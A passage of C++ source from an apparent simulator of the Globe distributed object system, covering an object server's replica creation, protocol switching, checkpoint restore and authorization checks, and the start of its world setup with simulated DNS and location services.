  // incarnation's (HTTPD-side replicas bound via bind_as_replica, secondaries
  // on other servers) is sent dso.retire at the new epoch, so it stops serving
  // the pre-switch incarnation instead of answering beside it indefinitely.
  void RetireForeignReplicas(const gls::ObjectId& oid, const sim::Endpoint& fresh,
                             uint64_t new_epoch);

  sim::Transport* transport_;
  sim::RpcServer server_;
  gls::GlsClient gls_;
  const dso::ImplementationRepository* repository_;
  const sec::KeyRegistry* registry_;
  GosOptions options_;
  ctl::MetricsRegistry metrics_;
  std::map<gls::ObjectId, HostedReplica> replicas_;
  // Responders for retired replica ports, keyed by port (see TombstoneEndpoint).
  std::map<uint16_t, std::unique_ptr<sim::RpcServer>> tombstones_;
  GosStats stats_;
};

}  // namespace globe::gos

#endif  // SRC_GOS_OBJECT_SERVER_H_
