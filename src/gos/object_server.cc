#include "src/gos/object_server.h"

#include "src/dso/wire.h"

#include "src/util/log.h"

namespace globe::gos {

ObjectServer::ObjectServer(sim::Transport* transport, sim::NodeId host,
                           const dso::ImplementationRepository* repository,
                           gls::DirectoryRef leaf_directory,
                           const sec::KeyRegistry* registry, GosOptions options)
    : transport_(transport),
      server_(transport, host, sim::kPortGos),
      gls_(transport, host, std::move(leaf_directory)),
      repository_(repository),
      registry_(registry),
      options_(std::move(options)),
      metrics_(transport->clock(), options_.region_of) {
  kGosCreateFirstReplica.RegisterAsync(
      &server_,
      [this](const sim::RpcContext& ctx, CreateFirstReplicaRequest request,
             std::function<void(Result<CreateFirstReplicaResponse>)> respond) {
        if (Status s = CheckModerator(ctx); !s.ok()) {
          ++stats_.commands_denied;
          respond(s);
          return;
        }
        CreateFirstReplica(
            request.protocol, request.semantics_type,
            [respond = std::move(respond)](
                Result<std::pair<gls::ObjectId, gls::ContactAddress>> result) {
              if (!result.ok()) {
                respond(result.status());
                return;
              }
              respond(CreateFirstReplicaResponse{result->first, result->second});
            },
            std::move(request.maintainers));
      });

  kGosCreateReplica.RegisterAsync(
      &server_, [this](const sim::RpcContext& ctx, CreateReplicaRequest request,
                       std::function<void(Result<CreateReplicaResponse>)> respond) {
        if (Status s = CheckModerator(ctx); !s.ok()) {
          ++stats_.commands_denied;
          respond(s);
          return;
        }
        CreateReplica(request.oid, request.semantics_type, request.role,
                      [respond = std::move(respond)](
                          Result<std::pair<gls::ObjectId, gls::ContactAddress>> result) {
                        if (!result.ok()) {
                          respond(result.status());
                          return;
                        }
                        respond(CreateReplicaResponse{result->second});
                      },
                      std::move(request.maintainers));
      });

  kGosRemoveReplica.RegisterAsync(
      &server_, [this](const sim::RpcContext& ctx, RemoveReplicaRequest request,
                       std::function<void(Result<sim::EmptyMessage>)> respond) {
        if (Status s = CheckModerator(ctx); !s.ok()) {
          ++stats_.commands_denied;
          respond(s);
          return;
        }
        RemoveReplica(request.oid, [respond = std::move(respond)](Status status) {
          if (status.ok()) {
            respond(sim::EmptyMessage{});
          } else {
            respond(status);
          }
        });
      });

  kGosListReplicas.Register(
      &server_,
      [this](const sim::RpcContext&,
             const sim::EmptyMessage&) -> Result<ListReplicasResponse> {
        ListReplicasResponse response;
        for (const auto& [oid, replica] : replicas_) {
          response.oids.push_back(oid);
        }
        return response;
      });
}

Status ObjectServer::CheckModerator(const sim::RpcContext& context) const {
  if (!options_.enforce_authorization) {
    return OkStatus();
  }
  if (registry_ == nullptr) {
    return Internal("authorization enforced but no key registry configured");
  }
  if (context.peer_principal == sec::kAnonymous || !context.integrity_protected) {
    return PermissionDenied("GOS commands require an authenticated channel");
  }
  auto role = registry_->RoleOf(context.peer_principal);
  if (!role.ok()) {
    return PermissionDenied("unknown principal");
  }
  if (*role != sec::Role::kModerator && *role != sec::Role::kAdministrator) {
    return PermissionDenied("only GDN moderators may command an object server");
  }
  return OkStatus();
}

dso::ReplicationObject* ObjectServer::FindReplica(const gls::ObjectId& oid) {
  auto it = replicas_.find(oid);
  return it == replicas_.end() ? nullptr : it->second.replication.get();
}

gls::ProtocolId ObjectServer::ProtocolOf(const gls::ObjectId& oid) const {
  auto it = replicas_.find(oid);
  return it == replicas_.end() ? 0 : it->second.protocol;
}

uint16_t ObjectServer::SemanticsTypeOf(const gls::ObjectId& oid) const {
  auto it = replicas_.find(oid);
  return it == replicas_.end() ? 0 : it->second.semantics_type;
}

dso::FailoverConfig ObjectServer::FailoverFor(const gls::ObjectId& oid) const {
  dso::FailoverConfig failover;
  failover.enabled = options_.enable_failover;
  failover.oid = oid;
  failover.leaf_directory = gls_.leaf_directory();
  failover.lease_interval = options_.failover_lease_interval;
  failover.lease_timeout = options_.failover_lease_timeout;
  failover.quorum = options_.failover_quorum;
  return failover;
}

gls::ContactAddress ObjectServer::CurrentAddress(const HostedReplica& replica) {
  auto address = replica.replication->contact_address();
  return address.has_value() ? *address : replica.registered_address;
}

void ObjectServer::CreateFirstReplica(gls::ProtocolId protocol, uint16_t semantics_type,
                                      CreateCallback done,
                                      std::vector<sec::PrincipalId> maintainers) {
  // "As part of the registration, an object identifier is allocated for the DSO by
  // the GLS" (paper §6.1).
  gls_.AllocateOid([this, protocol, semantics_type, maintainers = std::move(maintainers),
                    done = std::move(done)](Result<gls::ObjectId> oid) mutable {
    if (!oid.ok()) {
      done(oid.status());
      return;
    }
    InstallReplica(*oid, protocol, semantics_type, gls::ReplicaRole::kMaster, {},
                   std::move(maintainers), std::move(done));
  });
}

dso::WriteGuard ObjectServer::GuardFor(std::vector<sec::PrincipalId> maintainers) const {
  if (!options_.replica_write_guard || maintainers.empty()) {
    return options_.replica_write_guard;
  }
  dso::WriteGuard base = options_.replica_write_guard;
  return [base, maintainers = std::move(maintainers)](
             const sim::RpcContext& ctx) -> Status {
    if (base(ctx).ok()) {
      return OkStatus();
    }
    if (ctx.integrity_protected) {
      for (sec::PrincipalId maintainer : maintainers) {
        if (ctx.peer_principal == maintainer) {
          return OkStatus();
        }
      }
    }
    return PermissionDenied("sender is neither authorized role nor package maintainer");
  };
}

void ObjectServer::CreateReplica(const gls::ObjectId& oid, uint16_t semantics_type,
                                 gls::ReplicaRole role, CreateCallback done,
                                 std::vector<sec::PrincipalId> maintainers) {
  // Bind to the DSO: find its existing replicas (and hence protocol and master).
  gls_.Lookup(oid, [this, oid, semantics_type, role, maintainers = std::move(maintainers),
                    done = std::move(done)](Result<gls::LookupResult> lookup) mutable {
    if (!lookup.ok()) {
      done(lookup.status());
      return;
    }
    if (lookup->addresses.empty()) {
      done(NotFound("object has no replicas to join"));
      return;
    }
    gls::ProtocolId protocol = lookup->addresses.front().protocol;

    // The GLS returns the *nearest* replica, which may be a secondary. Secondary
    // replicas need the master; every replica answers dso.master_endpoint with it.
    bool have_master = false;
    for (const auto& address : lookup->addresses) {
      if (address.role == gls::ReplicaRole::kMaster) {
        have_master = true;
        break;
      }
    }
    if (have_master || role == gls::ReplicaRole::kMaster) {
      InstallReplica(oid, protocol, semantics_type, role, std::move(lookup->addresses),
                     std::move(maintainers), std::move(done));
      return;
    }
    sim::Endpoint nearest = lookup->addresses.front().endpoint;
    auto client = std::make_shared<sim::Channel>(transport_, server_.node());
    dso::kDsoMasterEndpoint.Call(
        client.get(), nearest, sim::EmptyMessage{},
        [this, client, oid, protocol, semantics_type, role,
         addresses = std::move(lookup->addresses), maintainers = std::move(maintainers),
         done = std::move(done)](Result<dso::EndpointMessage> result) mutable {
          if (!result.ok()) {
            done(result.status());
            return;
          }
          addresses.push_back(gls::ContactAddress{result->endpoint, protocol,
                                                  gls::ReplicaRole::kMaster});
          InstallReplica(oid, protocol, semantics_type, role, std::move(addresses),
                         std::move(maintainers), std::move(done));
        });
  });
}

void ObjectServer::InstallReplica(const gls::ObjectId& oid, gls::ProtocolId protocol,
                                  uint16_t semantics_type, gls::ReplicaRole role,
                                  std::vector<gls::ContactAddress> peers,
                                  std::vector<sec::PrincipalId> maintainers,
                                  CreateCallback done) {
  if (replicas_.count(oid) > 0) {
    done(AlreadyExists("replica of " + oid.ToHex() + " already hosted here"));
    return;
  }
  auto semantics = repository_->Instantiate(semantics_type);
  if (!semantics.ok()) {
    done(semantics.status());
    return;
  }
  dso::ReplicaSetup setup;
  setup.transport = transport_;
  setup.host = server_.node();
  setup.semantics = std::move(*semantics);
  setup.role = role;
  setup.peers = std::move(peers);
  setup.write_guard = GuardFor(maintainers);
  setup.failover = FailoverFor(oid);
  setup.access_hook = metrics_.HookFor(oid);
  auto replica = dso::MakeReplica(protocol, std::move(setup));
  if (!replica.ok()) {
    done(replica.status());
    return;
  }

  HostedReplica hosted;
  hosted.protocol = protocol;
  hosted.semantics_type = semantics_type;
  hosted.role = role;
  hosted.maintainers = std::move(maintainers);
  hosted.replication = std::move(*replica);
  hosted.semantics = hosted.replication->semantics();
  auto address = hosted.replication->contact_address();
  if (!address.has_value()) {
    done(Internal("replica has no contact address"));
    return;
  }
  hosted.registered_address = *address;

  dso::ReplicationObject* replication = hosted.replication.get();
  replicas_[oid] = std::move(hosted);

  replication->Start([this, oid, done = std::move(done)](Status status) mutable {
    if (!status.ok()) {
      replicas_.erase(oid);
      done(status);
      return;
    }
    const gls::ContactAddress& registered = replicas_.at(oid).registered_address;
    gls_.Insert(oid, registered, [this, oid, address = registered,
                                  done = std::move(done)](Status s) {
      if (!s.ok()) {
        replicas_.erase(oid);
        done(s);
        return;
      }
      ++stats_.replicas_created;
      done(std::make_pair(oid, address));
    });
  });
}

void ObjectServer::RemoveReplica(const gls::ObjectId& oid,
                                 std::function<void(Status)> done) {
  auto it = replicas_.find(oid);
  if (it == replicas_.end()) {
    done(NotFound("no replica of " + oid.ToHex() + " hosted here"));
    return;
  }
  // Deregister what the replica advertises NOW: fail-over may have rewritten
  // its role (and hence its GLS record) since the replica was installed.
  gls::ContactAddress address = CurrentAddress(it->second);
  dso::ReplicationObject* replication = it->second.replication.get();
  replication->Shutdown([this, oid, address, done = std::move(done)](Status) {
    gls_.Delete(oid, address, [this, oid, address, done = std::move(done)](Status s) {
      replicas_.erase(oid);
      metrics_.Forget(oid);
      ++stats_.replicas_removed;
      TombstoneEndpoint(oid, address.endpoint);
      done(s);
    });
  });
}

void ObjectServer::TombstoneEndpoint(const gls::ObjectId& oid,
                                     const sim::Endpoint& endpoint) {
  if (endpoint.node != server_.node() || tombstones_.count(endpoint.port) > 0) {
    return;
  }
  auto responder =
      std::make_unique<sim::RpcServer>(transport_, server_.node(), endpoint.port);
  auto moved = [oid](const sim::RpcContext&, ByteSpan) -> Result<Bytes> {
    return FailedPrecondition("replica of " + oid.ToHex() +
                              " retired (policy migration); rebind");
  };
  for (const char* method :
       {"dso.invoke", "dso.get_state", "dso.master_endpoint", "dso.lease"}) {
    responder->RegisterMethod(method, moved);
  }
  tombstones_[endpoint.port] = std::move(responder);
  ++stats_.tombstones;
}

void ObjectServer::SwitchProtocol(const gls::ObjectId& oid,
                                  gls::ProtocolId new_protocol,
                                  std::function<void(Status)> done) {
  auto it = replicas_.find(oid);
  if (it == replicas_.end()) {
    done(NotFound("no replica of " + oid.ToHex() + " hosted here"));
    return;
  }
  HostedReplica& old = it->second;
  if (old.role != gls::ReplicaRole::kMaster) {
    done(FailedPrecondition("only the master replica may switch protocol"));
    return;
  }
  if (old.protocol == new_protocol) {
    done(OkStatus());
    return;
  }

  // Snapshot everything the new incarnation needs before tearing the old one
  // down: state, version, epoch, and the address the GLS currently advertises.
  Bytes state = old.semantics != nullptr ? old.semantics->GetState() : Bytes{};
  uint64_t version = old.replication->version();
  uint64_t epoch = old.replication->epoch();
  gls::ContactAddress old_address = CurrentAddress(old);
  uint16_t semantics_type = old.semantics_type;
  std::vector<sec::PrincipalId> maintainers = old.maintainers;

  dso::ReplicationObject* replication = old.replication.get();
  // Foreign replicas of the old incarnation (HTTPD-side replicas installed via
  // bind_as_replica, secondaries hosted on other servers) are torn down by a
  // dso.retire fan-out once the fresh registration is in place — see RebuildAs.
  replication->Shutdown([this, oid, new_protocol, state = std::move(state),
                         version, epoch, old_address, semantics_type,
                         maintainers = std::move(maintainers),
                         done = std::move(done)](Status) mutable {
    // Master shutdowns complete synchronously, so this callback may still be
    // on the old replication object's stack. Defer the rebuild one event so
    // replacing (= destroying) that object is safe.
    transport_->clock()->ScheduleAfter(
        0, [this, oid, new_protocol, state = std::move(state), version, epoch,
            old_address, semantics_type, maintainers = std::move(maintainers),
            done = std::move(done)]() mutable {
          RebuildAs(oid, new_protocol, state, version, epoch, old_address,
                    semantics_type, std::move(maintainers), std::move(done));
        });
  });
}

void ObjectServer::RebuildAs(const gls::ObjectId& oid, gls::ProtocolId new_protocol,
                             const Bytes& state, uint64_t version, uint64_t epoch,
                             const gls::ContactAddress& old_address,
                             uint16_t semantics_type,
                             std::vector<sec::PrincipalId> maintainers,
                             std::function<void(Status)> done) {
  auto it = replicas_.find(oid);
  if (it == replicas_.end()) {
    done(FailedPrecondition("replica of " + oid.ToHex() + " removed mid-switch"));
    return;
  }
  auto semantics = repository_->Instantiate(semantics_type);
  if (!semantics.ok()) {
    done(semantics.status());
    return;
  }
  if (Status set = (*semantics)->SetState(state); !set.ok()) {
    done(set);
    return;
  }
  dso::ReplicaSetup setup;
  setup.transport = transport_;
  setup.host = server_.node();
  setup.semantics = std::move(*semantics);
  setup.role = gls::ReplicaRole::kMaster;
  setup.write_guard = GuardFor(maintainers);
  setup.failover = FailoverFor(oid);
  setup.access_hook = metrics_.HookFor(oid);
  auto replica = dso::MakeReplica(new_protocol, std::move(setup));
  if (!replica.ok()) {
    done(replica.status());
    return;
  }
  // The new incarnation lives one epoch above the old group: stragglers still
  // carrying the old epoch are fenced instead of landing on the fresh replica.
  (*replica)->set_version(version);
  (*replica)->set_epoch(epoch + 1);

  HostedReplica& hosted = it->second;
  hosted.protocol = new_protocol;
  hosted.replication = std::move(*replica);
  hosted.semantics = hosted.replication->semantics();
  auto address = hosted.replication->contact_address();
  if (!address.has_value()) {
    done(Internal("replica has no contact address"));
    return;
  }
  hosted.registered_address = *address;
  // Clients still bound to the old incarnation must fail fast, not wait out
  // a 30 s call deadline against a silently closed port.
  TombstoneEndpoint(oid, old_address.endpoint);

  hosted.replication->Start([this, oid, old_address, epoch,
                             done = std::move(done)](Status status) mutable {
    if (!status.ok()) {
      done(status);
      return;
    }
    auto it = replicas_.find(oid);
    if (it == replicas_.end()) {
      done(FailedPrecondition("replica of " + oid.ToHex() + " removed mid-switch"));
      return;
    }
    gls::ContactAddress fresh = it->second.registered_address;
    // Swap the GLS registration: drop the old incarnation's address, register
    // the new one. The insert drives the insert-path invalidation chain, so
    // cached lookups converge on the new address without waiting out a TTL.
    gls_.Delete(oid, old_address, [this, oid, fresh, epoch,
                                   done = std::move(done)](Status) mutable {
      gls_.Insert(oid, fresh, [this, oid, fresh, epoch,
                               done = std::move(done)](Status s) {
        if (s.ok()) {
          ++stats_.protocol_switches;
          RetireForeignReplicas(oid, fresh.endpoint, epoch + 1);
        }
        done(s);
      });
    });
  });
}

void ObjectServer::RetireForeignReplicas(const gls::ObjectId& oid,
                                         const sim::Endpoint& fresh,
                                         uint64_t new_epoch) {
  // Exhaustive enumeration, not a nearest-replica lookup: the fan-out must see
  // replicas this GOS never created — HTTPD-side representatives installed via
  // bind_as_replica in other countries — which a plain lookup from here would
  // stop short of (it ends at the fresh local registration).
  gls_.LookupAll(oid, [this, fresh, new_epoch](Result<gls::LookupResult> lookup) {
    if (!lookup.ok()) {
      return;  // nothing registered to retire (or GLS unreachable — addresses
               // left behind fail per-call and their hosts rebind on error)
    }
    auto client = std::make_shared<sim::Channel>(transport_, server_.node());
    for (const gls::ContactAddress& address : lookup->addresses) {
      if (address.endpoint == fresh) {
        continue;
      }
      // Fire-and-forget: the retire latch is idempotent and epoch-guarded, so
      // a duplicate or reordered delivery cannot un-retire anything, and a
      // replica that misses it entirely still fails fenced on its next
      // interaction with the new incarnation.
      dso::kDsoRetire.Call(client.get(), address.endpoint,
                           dso::VersionMessage{0, new_epoch},
                           [this, client](Result<dso::PushAck> ack) {
                             if (ack.ok() && ack->accepted != 0) {
                               ++stats_.foreign_retires;
                             }
                           });
    }
  });
}

Bytes ObjectServer::Checkpoint() const {
  ByteWriter w;
  w.WriteVarint(replicas_.size());
  for (const auto& [oid, replica] : replicas_) {
    oid.Serialize(&w);
    w.WriteU16(replica.protocol);
    w.WriteU16(replica.semantics_type);
    w.WriteU8(static_cast<uint8_t>(replica.role));
    replica.registered_address.Serialize(&w);
    w.WriteU64(replica.replication->version());
    w.WriteU64(replica.replication->epoch());
    w.WriteVarint(replica.maintainers.size());
    for (sec::PrincipalId maintainer : replica.maintainers) {
      w.WriteU64(maintainer);
    }
    w.WriteLengthPrefixed(replica.semantics != nullptr ? replica.semantics->GetState()
                                                       : Bytes{});
  }
  // Optional trailer (absent in pre-telemetry checkpoints): the access
  // telemetry, so a restarted server resumes with warm rate estimates.
  metrics_.Serialize(&w);
  const_cast<GosStats&>(stats_).checkpoints++;
  return w.Take();
}

void ObjectServer::Restore(ByteSpan checkpoint, std::function<void(Status)> done) {
  struct Entry {
    gls::ObjectId oid;
    gls::ProtocolId protocol;
    uint16_t semantics_type;
    gls::ReplicaRole role;
    gls::ContactAddress old_address;
    uint64_t version;
    uint64_t epoch;
    std::vector<sec::PrincipalId> maintainers;
    Bytes state;
  };
  std::vector<Entry> entries;
  {
    ByteReader r(checkpoint);
    auto count = r.ReadVarint();
    if (!count.ok()) {
      done(count.status());
      return;
    }
    for (uint64_t i = 0; i < *count; ++i) {
      Entry entry;
      auto oid = gls::ObjectId::Deserialize(&r);
      auto protocol = r.ReadU16();
      auto semantics_type = r.ReadU16();
      auto role = r.ReadU8();
      auto address = gls::ContactAddress::Deserialize(&r);
      auto version = r.ReadU64();
      auto epoch = r.ReadU64();
      std::vector<sec::PrincipalId> maintainers;
      auto maintainer_count = r.ReadVarint();
      if (maintainer_count.ok()) {
        for (uint64_t j = 0; j < *maintainer_count; ++j) {
          auto id = r.ReadU64();
          if (!id.ok()) {
            done(InvalidArgument("corrupt GOS checkpoint"));
            return;
          }
          maintainers.push_back(*id);
        }
      }
      auto state = r.ReadLengthPrefixedView();
      if (!oid.ok() || !protocol.ok() || !semantics_type.ok() || !role.ok() ||
          !address.ok() || !version.ok() || !epoch.ok() || !maintainer_count.ok() ||
          !state.ok()) {
        done(InvalidArgument("corrupt GOS checkpoint"));
        return;
      }
      // The entry owns the snapshot past this parse (the checkpoint buffer is
      // released before replicas rebuild): copied at the ownership boundary.
      entries.push_back(Entry{*oid, *protocol, *semantics_type,
                              static_cast<gls::ReplicaRole>(*role), *address, *version,
                              *epoch, std::move(maintainers), ToBytes(*state)});
    }
    // Optional telemetry trailer (pre-telemetry checkpoints end here).
    if (!r.AtEnd()) {
      if (Status s = metrics_.Restore(&r); !s.ok()) {
        done(s);
        return;
      }
    }
  }

  ++stats_.restores;
  if (entries.empty()) {
    done(OkStatus());
    return;
  }

  // Rebuild every replica first, collecting the GLS bookkeeping: the stale
  // addresses to drop and the fresh ones to register. The fresh registrations then
  // go out as one gls.insert_batch instead of N gls.insert round trips.
  Status build_error = OkStatus();
  std::vector<std::pair<gls::ObjectId, gls::ContactAddress>> stale;
  std::vector<std::pair<gls::ObjectId, gls::ContactAddress>> fresh;
  auto record_failure = [&build_error](Status s) {
    if (!s.ok() && build_error.ok()) {
      build_error = std::move(s);
    }
  };

  for (auto& entry : entries) {
    // Reconstruct the replica with its saved state; ports changed across the reboot,
    // so drop the stale contact address and register the new one.
    auto semantics = repository_->Instantiate(entry.semantics_type);
    if (!semantics.ok()) {
      record_failure(semantics.status());
      continue;
    }
    Status set = (*semantics)->SetState(entry.state);
    if (!set.ok()) {
      record_failure(set);
      continue;
    }
    dso::ReplicaSetup setup;
    setup.transport = transport_;
    setup.host = server_.node();
    setup.semantics = std::move(*semantics);
    setup.role = entry.role;
    setup.write_guard = GuardFor(entry.maintainers);
    setup.failover = FailoverFor(entry.oid);
    setup.access_hook = metrics_.HookFor(entry.oid);
    // Secondary replicas would need peers; restore keeps them in their role but they
    // re-register with the master lazily via the GLS addresses.
    if (entry.role != gls::ReplicaRole::kMaster) {
      setup.peers.push_back(gls::ContactAddress{
          entry.old_address.endpoint, entry.protocol, gls::ReplicaRole::kMaster});
    }
    auto replica = dso::MakeReplica(entry.protocol, std::move(setup));
    if (!replica.ok()) {
      record_failure(replica.status());
      continue;
    }
    (*replica)->set_version(entry.version);
    (*replica)->set_epoch(entry.epoch);

    HostedReplica hosted;
    hosted.protocol = entry.protocol;
    hosted.semantics_type = entry.semantics_type;
    hosted.role = entry.role;
    hosted.maintainers = entry.maintainers;
    hosted.replication = std::move(*replica);
    hosted.semantics = hosted.replication->semantics();
    hosted.registered_address = *hosted.replication->contact_address();
    gls::ContactAddress new_address = hosted.registered_address;
    replicas_[entry.oid] = std::move(hosted);

    stale.emplace_back(entry.oid, entry.old_address);
    fresh.emplace_back(entry.oid, new_address);

    // With fail-over on, the rebuilt replica resumes its group role: a master
    // re-claims (or discovers it lost) GLS mastership at its checkpointed
    // epoch; a slave starts its lease watch (its recorded master peer is the
    // stale pre-crash address, so the initial re-registration usually fails —
    // the watch then claims, is refused, and adopts the live master from the
    // GLS ownership record within about a lease timeout).
    if (options_.enable_failover) {
      replicas_.at(entry.oid).replication->Start([oid = entry.oid](Status s) {
        if (!s.ok()) {
          GLOG_WARN << "restored replica of " << oid.ToHex()
                    << " could not resume its group role: " << s;
        }
      });
    }
  }

  if (fresh.empty()) {
    done(build_error);
    return;
  }

  // GLS bookkeeping: out with the stale addresses, in with the fresh ones — each
  // side one batched round trip. Missing stale addresses are fine (e.g. they were
  // never registered), so the delete batch's status is deliberately ignored.
  auto shared_done = std::make_shared<std::function<void(Status)>>(std::move(done));
  gls_.DeleteBatch(stale, [this, fresh = std::move(fresh), build_error,
                           shared_done](Status) {
    gls_.InsertBatch(fresh, [build_error, shared_done](Status s) {
      (*shared_done)(!s.ok() ? s : build_error);
    });
  });
}

void ObjectServer::Decommission(std::function<void(Status)> done) {
  if (replicas_.empty()) {
    done(OkStatus());
    return;
  }
  std::vector<std::pair<gls::ObjectId, gls::ContactAddress>> registered;
  std::vector<dso::ReplicationObject*> replications;
  for (auto& [oid, replica] : replicas_) {
    // Current addresses, not installation-time ones: a fail-over role change
    // re-registered the replica under its new role.
    registered.emplace_back(oid, CurrentAddress(replica));
    replications.push_back(replica.replication.get());
  }

  // Stop every replica first (peers deregister from masters etc.), then drop all
  // GLS registrations in one gls.delete_batch instead of N gls.delete round trips.
  auto remaining = std::make_shared<size_t>(replications.size());
  auto shared_done = std::make_shared<std::function<void(Status)>>(std::move(done));
  auto deregister = std::make_shared<std::function<void()>>(
      [this, registered = std::move(registered), shared_done]() {
        gls_.DeleteBatch(registered, [this, count = registered.size(),
                                      shared_done](Status s) {
          stats_.replicas_removed += count;
          replicas_.clear();
          (*shared_done)(s);
        });
      });
  for (dso::ReplicationObject* replication : replications) {
    replication->Shutdown([remaining, deregister](Status) {
      if (--*remaining == 0) {
        (*deregister)();
      }
    });
  }
}

}  // namespace globe::gos
