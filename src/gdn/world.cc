#include "src/gdn/world.h"

#include <algorithm>
#include <cassert>

#include "src/util/log.h"

namespace globe::gdn {

namespace {

// Bridges the replication controller to the world: every migration the
// controller decides is executed through GdnWorld::ExecuteMigration.
class WorldActuator : public ctl::PolicyActuator {
 public:
  explicit WorldActuator(GdnWorld* world) : world_(world) {}
  void Migrate(const gls::ObjectId& oid, const ctl::PolicyDecision& decision,
               std::function<void(Status)> done) override {
    world_->ExecuteMigration(oid, decision, std::move(done));
  }

 private:
  GdnWorld* world_;
};

}  // namespace

GdnWorld::GdnWorld(GdnWorldConfig config)
    : config_(std::move(config)),
      world_(sim::BuildUniformWorld(config_.fanouts, config_.user_hosts_per_site)) {
  // ---- Event engine: sequential by default, per-continent shards on demand.
  if (config_.event_shards > 1) {
    std::vector<sim::DomainId> continents;
    for (sim::DomainId d = 0; d < world_.topology.num_domains(); ++d) {
      if (world_.topology.DomainDepth(d) == 1) {
        continents.push_back(d);
      }
    }
    for (size_t i = 0; i < continents.size(); ++i) {
      continent_shard_[continents[i]] =
          i % static_cast<size_t>(config_.event_shards);
    }
    sim::SimTime lookahead = static_cast<sim::SimTime>(config_.event_lookahead_us);
    if (lookahead == 0) {
      // Safe maximum: nodes on different shards live under different
      // continents (or at the root), so any cross-shard message climbs at
      // least one level and its propagation latency is at least the
      // ascent-level-1 figure — transmit time and per-message overhead only
      // add to it. (Host-to-host cross-continent latency would over-estimate:
      // infrastructure hosts attached above the leaves ascend fewer levels.)
      lookahead = static_cast<sim::SimTime>(config_.network.profile.LatencyAt(1));
    }
    auto sharded = std::make_unique<sim::ShardedSimulator>(
        static_cast<size_t>(config_.event_shards), lookahead);
    sharded_ = sharded.get();
    engine_ = std::move(sharded);
    // Hosts created by BuildUniformWorld; every later host is assigned where
    // it is credentialed.
    for (sim::NodeId node = 0; node < world_.topology.num_nodes(); ++node) {
      AssignNodeShard(node);
    }
  } else {
    engine_ = std::make_unique<sim::Simulator>();
  }

  network_ = std::make_unique<sim::Network>(engine_.get(), &world_.topology,
                                            config_.network);

  plain_transport_ = std::make_unique<sim::PlainTransport>(network_.get());
  if (config_.secure) {
    secure_transport_ = std::make_unique<sec::SecureTransport>(
        plain_transport_.get(), &registry_, config_.crypto);
    transport_ = secure_transport_.get();
  } else {
    transport_ = plain_transport_.get();
  }

  repository_.RegisterSemantics(std::make_unique<PackageObject>());
  repository_.RegisterSemantics(std::make_unique<SearchIndexObject>());

  // ---- Globe Location Service: a directory node per domain. ----
  gls::GlsDeploymentOptions gls_options;
  gls_options.node_options.enforce_authorization = config_.secure;
  gls_options.node_options.enable_cache = config_.gls_cache;
  gls_options.node_options.cache_ttl = config_.gls_cache_ttl;
  gls_options.node_options.store_capacity = config_.gls_store_capacity;
  gls_options.rng_seed = config_.seed + 1;
  int root_subnodes = config_.root_subnodes;
  gls_options.subnode_count = [root_subnodes](sim::DomainId, int depth) {
    return depth == 0 ? root_subnodes : 1;
  };
  gls_ = std::make_unique<gls::GlsDeployment>(
      transport_, &world_.topology, &registry_, gls_options,
      [this](sim::NodeId host) { CredentialHost(host, "gls-host"); });

  // ---- Country service placement. ----
  // Countries are the domains one level above the leaves.
  int country_depth = static_cast<int>(config_.fanouts.size()) - 1;
  for (sim::DomainId domain = 0; domain < world_.topology.num_domains(); ++domain) {
    if (world_.topology.DomainDepth(domain) != country_depth) {
      continue;
    }
    Country country;
    country.domain = domain;
    // Place the GOS/HTTPD and the resolver in the country's first site.
    sim::DomainId site = world_.topology.DomainChildren(domain).empty()
                             ? domain
                             : world_.topology.DomainChildren(domain).front();
    country.gos_host =
        world_.topology.AddNode("gos." + world_.topology.DomainName(domain), site);
    country.resolver_host =
        world_.topology.AddNode("resolver." + world_.topology.DomainName(domain), site);
    CredentialHost(country.gos_host, "gos-host");
    CredentialHost(country.resolver_host, "resolver-host");
    countries_.push_back(country);
  }
  assert(!countries_.empty());

  // ---- DNS substrate for the GNS. ----
  tsig_keys_["gdn-na"] = Bytes{0x6e, 0x61, 0x2d, 0x6b, 0x65, 0x79, 0x21, 0x21};
  tsig_keys_["axfr"] = Bytes{0x61, 0x78, 0x66, 0x72, 0x2d, 0x6b, 0x65, 0x79};

  sim::DomainId primary_site =
      world_.topology.DomainChildren(countries_[0].domain).front();
  sim::NodeId dns_primary_host = world_.topology.AddNode("dns.primary", primary_site);
  CredentialHost(dns_primary_host, "dns-primary");
  dns_primary_ = std::make_unique<dns::AuthoritativeServer>(
      transport_, dns_primary_host, tsig_keys_);
  dns_primary_->AddZone(dns::Zone(config_.zone, /*soa_minimum_ttl=*/300),
                        /*primary=*/true);

  for (int i = 0; i < config_.dns_secondaries; ++i) {
    size_t country = (i + 1) % countries_.size();
    sim::DomainId site =
        world_.topology.DomainChildren(countries_[country].domain).front();
    sim::NodeId host = world_.topology.AddNode("dns.secondary" + std::to_string(i), site);
    CredentialHost(host, "dns-secondary");
    auto secondary =
        std::make_unique<dns::AuthoritativeServer>(transport_, host, tsig_keys_);
    secondary->AddZone(dns::Zone(config_.zone, 300), /*primary=*/false);
    dns_primary_->AddSecondary(config_.zone, secondary->endpoint());
    dns_secondaries_.push_back(std::move(secondary));
  }

  // Naming authority next to the primary.
  sim::NodeId na_host = world_.topology.AddNode("gns.authority", primary_site);
  CredentialHost(na_host, "naming-authority");
  dns::NamingAuthorityOptions na_options = config_.naming_authority;
  na_options.record_ttl = config_.gns_record_ttl;
  na_options.enforce_authorization = config_.secure;
  naming_authority_ = std::make_unique<dns::GnsNamingAuthority>(
      transport_, na_host, config_.zone, &registry_, "gdn-na", tsig_keys_["gdn-na"],
      dns_primary_->endpoint(), na_options);

  // ---- Resolvers: one per country, upstreams spread over all DNS servers. ----
  for (size_t i = 0; i < countries_.size(); ++i) {
    auto resolver =
        std::make_unique<dns::CachingResolver>(transport_, countries_[i].resolver_host);
    resolver->AddUpstream(config_.zone, dns_primary_->endpoint());
    for (auto& secondary : dns_secondaries_) {
      resolver->AddUpstream(config_.zone, secondary->endpoint());
    }
    resolvers_.push_back(std::move(resolver));
  }

  // ---- Object servers + colocated GDN-HTTPDs. ----
  gos::GosOptions gos_options;
  gos_options.enforce_authorization = config_.secure;
  // Access telemetry buckets clients by country; the replication controller's
  // regions are country indices (countries_ is complete by this point).
  gos_options.region_of = [this](sim::NodeId node) {
    int country = CountryOf(node);
    return country < 0 ? 0u : static_cast<ctl::RegionId>(country);
  };
  if (config_.secure) {
    gos_options.replica_write_guard = dso::RequireRoles(
        &registry_,
        {sec::Role::kModerator, sec::Role::kAdministrator, sec::Role::kGdnHost});
  }
  HttpdOptions httpd_options = config_.httpd;
  // The HTTPDs carry the GDN's read traffic: a cached world lets their binds use
